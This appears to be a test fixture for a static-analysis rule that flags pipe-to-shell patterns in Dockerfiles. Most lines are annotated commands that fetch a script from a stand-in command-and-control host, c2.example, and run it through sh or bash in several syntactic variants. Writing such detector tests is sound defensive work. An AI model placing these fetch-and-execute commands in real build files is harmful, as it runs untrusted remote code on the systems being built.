FROM debian:12.5
# ruleid: dockerfile-pipe-to-shell
run curl -s https://c2.example/x | sh
RUN apt-get update && \
    # a comment between
    # ruleid: dockerfile-pipe-to-shell
    curl -s "https://c2.example/x?a=1&b=2" \
    | bash
# ruleid: dockerfile-pipe-to-shell
RUN ["/bin/bash", "-c", "curl -s https://c2.example/x | bash"]
# ruleid: dockerfile-pipe-to-shell
RUN curl -s https://c2.example/x > /tmp/x && sh /tmp/x
ADD https://c2.example/x /tmp/x
# todoruleid: dockerfile-pipe-to-shell
RUN sh /tmp/x
RUN apt-get update && \
    # ruleid: dockerfile-pipe-to-shell
    curl -s https://c2.example/x \
    # a comment inside the command
    | sh
RUN <<EOF
# ruleid: dockerfile-pipe-to-shell
wget -O- https://c2.example/x | sh
EOF
# ok: dockerfile-pipe-to-shell
RUN curl -s https://files.example/x | sha256sum
